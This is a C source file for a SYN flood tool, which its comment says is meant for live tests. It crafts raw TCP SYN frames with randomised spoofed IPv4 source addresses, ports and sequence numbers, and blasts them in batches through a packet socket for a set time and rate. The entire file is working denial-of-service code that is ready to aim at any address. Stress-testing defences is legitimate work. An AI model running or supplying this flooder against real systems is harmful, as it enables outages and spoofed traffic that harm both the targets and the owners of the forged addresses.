/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A SYN flood for the live tests: syn_flood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [PACKETS-A-SECOND]. IPv4, random
 * sources out of 11.0.0.0 to 125.255.255.255, ports and numbers; through a packet socket, many at a call. Prints how many.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME 74 /* Ethernet, IPv4, TCP with 20 bytes of options */

static const uint8_t options[20] = { 2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 3, 232, 0, 0, 0, 0, 1, 3, 3,
	7 };

static uint64_t
next_random(uint64_t *x) /* xorshift64 */
{
	*x ^= *x << 13;
	*x ^= *x >> 7;
	*x ^= *x << 17;
	return *x;
}

static double
now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void
put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static uint32_t
add(const uint8_t *p, unsigned int len, uint32_t sum)
{
	for (unsigned int i = 0; i < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	return sum;
}

static void
put_sum(uint8_t *p, uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	put16(p, ~sum);
}

static void
first(uint8_t *f, const char *mac, const char *address, const char *port)
{
	for (unsigned int i = 0; i < 6; i++)
		f[i] = (uint8_t)strtoul(mac + 3 * i, NULL, 16);
	f[6] = 2;
	f[11] = 0x66;
	put16(f + 12, ETH_P_IP);
	f[14] = 0x45;
	put16(f + 16, FRAME - 14);
	f[22] = 64;
	f[23] = IPPROTO_TCP;
	if (inet_pton(AF_INET, address, f + 30) != 1)
		exit(2);
	put16(f + 36, (uint32_t)atoi(port));
	f[46] = 0xa0;
	f[47] = 2; /* SYN */
	put16(f + 48, 64240);
	memcpy(f + 54, options, sizeof(options));
}

static void
vary(uint8_t *f, uint64_t *x)
{
	uint64_t a = next_random(x), b = next_random(x);

	memcpy(f + 26, &a, 4);
	f[26] = (uint8_t)(11 + f[26] % 115);
	put16(f + 34, 1024 + (uint32_t)(a >> 40) % 64512);
	memcpy(f + 38, &b, 4);
	put16(f + 24, 0);
	put16(f + 50, 0);
	put_sum(f + 24, add(f + 14, 20, 0));
	put_sum(f + 50, add(f + 34, 40, add(f + 26, 8, IPPROTO_TCP + 40)));
}

int
main(int argc, char **argv)
{
	static uint8_t frames[BATCH][FRAME];
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
	struct mmsghdr m[BATCH];
	struct iovec v[BATCH];
	uint64_t sent = 0, x = 88172645463325252u;
	double start, seconds, rate;
	int s = socket(AF_PACKET, SOCK_RAW, 0);

	if (argc < 6 || s < 0)
		return 2;
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	memset(m, 0, sizeof(m));
	for (unsigned int i = 0; i < BATCH; i++) {
		first(frames[i], argv[2], argv[3], argv[4]);
		v[i] = (struct iovec){ frames[i], FRAME };
		m[i].msg_hdr = (struct msghdr){ .msg_iov = &v[i],
			.msg_iovlen = 1,
			.msg_name = &to,
			.msg_namelen = sizeof(to) };
	}
	seconds = atof(argv[5]);
	rate = argc > 6 ? atof(argv[6]) : 0;
	for (start = now(); now() < start + seconds;) {
		int n;

		if (rate > 0 && (double)sent > (now() - start) * rate) {
			usleep(100);
			continue;
		}
		for (unsigned int i = 0; i < BATCH; i++)
			vary(frames[i], &x);
		n = sendmmsg(s, m, BATCH, 0);
		sent += n > 0 ? (uint64_t)n : 0;
	}
	printf("%llu\n", (unsigned long long)sent);
	return 0;
}
